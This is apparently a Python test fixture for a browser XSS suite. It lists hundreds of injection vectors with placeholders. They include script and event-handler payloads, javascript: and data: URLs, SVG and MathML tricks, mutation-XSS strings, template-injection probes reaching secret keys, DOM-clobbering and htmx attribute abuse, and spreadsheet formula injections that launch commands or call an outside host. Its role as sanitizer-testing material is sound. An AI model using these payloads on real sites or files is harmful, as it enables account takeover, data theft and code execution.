"""The vectors of the corpus; tests/browser/xss/corpus.py says what RUN, HOST and NUM stand for."""

from __future__ import annotations

ELEMENTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT >
<script/x>RUN</script>
<script type=module>RUN</script>
<script src=HOST></script>
<script src="data:text/javascript,RUN"></script>
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<script>RUN
<noscript><script>RUN</script></noscript>
<img src=x onerror=RUN>
<img src=x onerror="RUN"//
<IMG SRC=x ONERROR=RUN>
<img/src=x/onerror=RUN>
<img src=HOST>
<img srcset="HOST 1x">
<image src=x onerror=RUN>
<picture><source srcset=HOST><img></picture>
<body onload=RUN>
<body onpageshow=RUN>
<body background=HOST>
<frameset onload=RUN><frame src=HOST>
<iframe src="javascript:RUN"></iframe>
<iframe onload=RUN></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.RUN&gt;"></iframe>
<iframe src="data:text/html,<script>parent.RUN</script>"></iframe>
<object data="javascript:RUN"></object>
<object data=HOST></object>
<embed src="javascript:RUN">
<embed src=HOST>
<video src=x onerror=RUN></video>
<video poster=HOST></video>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN></audio>
<track src=HOST>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN></select>
<textarea autofocus onfocus=RUN></textarea>
<button autofocus onfocus=RUN>b</button>
<a href=# autofocus onfocus=RUN>a</a>
<div contenteditable autofocus onfocus=RUN>d</div>
<b tabindex=1 id=x onfocusin=RUN>b</b>
<details open ontoggle=RUN>d</details>
<marquee onstart=RUN>m</marquee>
<dialog open onclose=RUN><form method=dialog><button>x</button></form></dialog>
<div popover onbeforetoggle=RUN>p</div>
<xss onpointerrawupdate=RUN style=display:block>x</xss>
<b onmouseover=RUN>bold</b>
<p onclick=RUN>p</p>
<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart=RUN>b</b>
<b style="transition:color 1s" ontransitionend=RUN>b</b>
<style>@import 'HOST';</style>
<style>*{background:url(HOST)}</style>
<style>b{x:expression(RUN)}</style>
<p style="background:url(HOST)">p</p>
<p style="-moz-binding:url(HOST);behavior:url(HOST)">p</p>
<p style="position:fixed;inset:0;z-index:9999">p</p>
<link rel=stylesheet href=HOST>
<link rel=icon href=HOST>
<link rel=preload as=script href=HOST>
<link rel=dns-prefetch href=HOST>
<base href=HOST/>
<base target=_blank>
<meta http-equiv=refresh content="0;url=HOST">
<meta http-equiv=refresh content="0;javascript:RUN">
<meta http-equiv=Set-Cookie content="sessionid=x">
<meta http-equiv=Content-Security-Policy content="script-src 'unsafe-inline'">
<meta name=referrer content=unsafe-url>
<form action="javascript:RUN"><button>go</button></form>
<form action=HOST method=post><input name=csrfmiddlewaretoken></form>
<button form=filters formaction=HOST>go</button>
<isindex action="javascript:RUN" type=image>
<table background=HOST><td background=HOST>t</table>
<template shadowrootmode=open><script>RUN</script></template>
<portal src=HOST></portal>
<a ping=HOST href=/>p</a>
<bgsound src=HOST>
<plaintext>
<xmp><script>RUN</script></xmp>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
""".strip().split("\n")

ATTRIBUTE_ENDS = ('"', "'", "`", '">', "'>", '\\">', "&quot;>", "%22>")
IN_A_TAG = (
    " onmouseover=RUN x=",
    " autofocus onfocus=RUN x=",
    "/><img src=x onerror=RUN>",
    "><script>RUN</script>",
)
ELEMENT_ENDS = (
    "</pre>",
    "</code></pre>",
    "</textarea>",
    "</title>",
    "</style>",
    "</script>",
    "</noscript>",
    "</template>",
    "</select>",
    "</time></q>",
    "</mark></span>",
    "</svg>",
    "</math>",
    "-->",
    "--!>",
    "]]>",
    "*/-->",
    "?>",
)
AFTER_AN_ELEMENT = ("<img src=x onerror=RUN>", "<script>RUN</script>", "<svg onload=RUN>")

ADDRESSES = (
    "javascript:RUN",
    "JaVaScRiPt:RUN",
    "java\tscript:RUN",
    "java&#9;script:RUN",
    "javascript&colon;RUN",
    "&#106;avascript:RUN",
    " javascript:RUN",
    "javascript://x%0aRUN",
    "data:text/html,<script>RUN</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoMSk8L3NjcmlwdD4=#NUM",
    "vbscript:RUN",
    "file:///etc/passwd#NUM",
    "HOST",
    "\\\\evil.invalid\\NUM",
    "https://github.com@evil.invalid/NUM",
    "view-source:javascript:RUN",
)
LINKS = (
    "[label](ADDRESS)",
    "[label][1]\n\n[1]: ADDRESS",
    "<ADDRESS>",
    '<a href="ADDRESS">label</a>',
    '![label](ADDRESS "onerror=RUN")',
)

FOREIGN = r"""
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><a xlink:href="javascript:RUN"><text x=9 y=9>t</text></a></svg>
<svg><a><animate attributeName=href values="javascript:RUN"/><text y=9>t</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><set onend=RUN attributeName=x dur=1ms></svg>
<svg><use href="data:image/svg+xml,<svg id='x'><script>RUN</script></svg>#x"/></svg>
<svg><use href="HOST#x"/></svg>
<svg><image href=HOST onerror=RUN /></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"/></foreignObject></svg>
<svg><style>@import 'HOST';</style></svg>
<svg><desc><![CDATA[</desc><script>RUN</script>]]></svg>
<math><maction actiontype="statusline" xlink:href="javascript:RUN">m</maction></math>
<math href="javascript:RUN">m</math>
<math><mtext><img src=x onerror=RUN></mtext></math>
<?xml-stylesheet href="javascript:RUN"?>
""".strip().split("\n")

TEMPLATES = r"""
{{ 7*7 }}{{ constructor.constructor('RUN')() }}
{{''.__class__.__mro__[1].__subclasses__()}}NUM
{{ settings.SECRET_KEY }} {{ request.user.password }} NUM
{{ "<script>RUN</script>"|safe }}
{% load x %}{% include "operating/operate.html" %}NUM
{% autoescape off %}<img src=x onerror=RUN>{% endautoescape %}
{% debug %}NUM{# RUN #}
{%- for x in ().__class__.__base__.__subclasses__() -%}NUM{%- endfor -%}
${RUN} #{RUN} @(RUN) *{RUN}
<%= RUN %><% RUN %>
[[${RUN}]] [(${RUN})]
%(reason)s %s %d {0} {reason} {RUN} %NUM
';RUN;//
';RUN;var x='
";RUN;//
"-RUN-"
\';RUN;//
\";RUN;//
`+RUN+`
*/RUN/*
);RUN;(
}};RUN;{{
</script><script>RUN</script><script>
"}</script><script>RUN</script>{"
{"__proto__": {"x": "<script>RUN</script>"}}
<!--<script>RUN//--></script>
]}%>RUN
$\href{javascript:RUN}{tex}$ \(x\) $NUM$
""".strip().split("\n")

MARKERS = r"""
<!--output-url NUM--> <!--page-url NUM output 1-->
<!--output-url NUM--><!--output-link-->
<!--page-url NUM 2--><!--no-such-url-->
&lt;!--output-url NUM--&gt;
<<!--output-url NUM-->script>RUN</script>
<!--output-url <!--output-url NUM--> -->
<!--output-url 1--!><script>RUN</script>
<!--output-url {0.__class__} NUM-->
<!--output-url ${RUN}-->
<!-- <script>RUN</script> -->
<!--><script>RUN</script>
<!---><img src=x onerror=RUN>
<!--[if IE]><script>RUN</script><![endif]-->
<! foo="><script>RUN</script>">
</ foo="><script>RUN</script>">
<? foo="><script>RUN</script>">
<![CDATA[<script>RUN</script>]]>
<![CDATA[]]><script>RUN</script>
</section></main></body></html><script>RUN</script>
<!doctype html><html><head><script>RUN</script>
""".strip().split("\n")

MUTATIONS = r"""
<noscript><p title="</noscript><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=RUN>">
<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=RUN>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=RUN>">
<table><td><form><table><tr><form><img src=x onerror=RUN>
<div><br><p id="</p><img src=x onerror=RUN>">
<listing>&#10;<img src="&lt;img src=x onerror=RUN&gt;"></listing>
<xmp><p title="</xmp><svg/onload=RUN>">
<a href="x`><img src=x onerror=RUN>`">x</a>
<textarea><img title="</textarea><img src=x onerror=RUN>"></textarea>
`<img src=x onerror=RUN>` ``` <svg onload=RUN> ```
""".strip().split("\n")

CLOBBERING = r"""
<form id=htmx><input name=ajax id=NUM></form>
<a id=canary><a id=canary name=toString href=NUM>x</a>
<img name=currentScript data-plotly=HOST>
<img name=cookie><img name=head><img name=body id=NUM>
<a id=Plotly href=HOST>x</a>
<form id=filters action=HOST><input name=sort></form>
<form><input name=action><input name=submit><input name=attributes value=NUM></form>
<div id=content><div id=board><div id=found><div id=poll>NUM
<div id=step-1 class=step>NUM</div><mark id=hit-1-1>NUM</mark>
<div hx-get=HOST hx-trigger=load>x</div>
<div data-hx-get=HOST data-hx-trigger=load>x</div>
<div hx-on:load=RUN hx-on--load=RUN>x</div>
<div hx-get=/ hx-trigger=load hx-vals='js:{"x": RUN}'>x</div>
<div hx-get=/ hx-trigger="load[RUN]">x</div>
<div hx-swap-oob="innerHTML:#board" id=board>NUM</div>
<div data-charts=HOST><div data-plot=scatter></div></div>
<div data-toolbar><output data-announce data-step="<img src=x onerror=RUN>"></output></div>
<a class=fold href=HOST aria-expanded=false>NUM</a>
<input name=csrfmiddlewaretoken value=NUM><a id=location href=HOST>x</a>
<meta name=htmx-config content='{"allowEval": true, "selfRequestsOnly": false, "x": NUM}'>
""".strip().split("\n")

FORMULAS = (
    "=cmd|'/C calc'!A0 NUM",
    "+cmd|'/C calc'!A0 NUM",
    "-2+3+cmd|'/C calc'!A0 NUM",
    "@SUM(1+1)*cmd|'/C calc'!A0 NUM",
    '=HYPERLINK("https:HOST","label")',
    '=IMPORTXML("https:HOST","//a")',
    '=WEBSERVICE("https:HOST")',
    "=1+1;NUM",
    "%0A=1+NUM",
    "\uff1dcmd|'/C calc'!A0 NUM",
    '"=cmd|NUM"',
    ",=cmd|NUM",
    "\t=cmd|NUM",
    " =cmd|NUM",
)

BASES = ("<script>RUN</script>", "<img src=x onerror=RUN>", '<a href="javascript:RUN">label</a>')
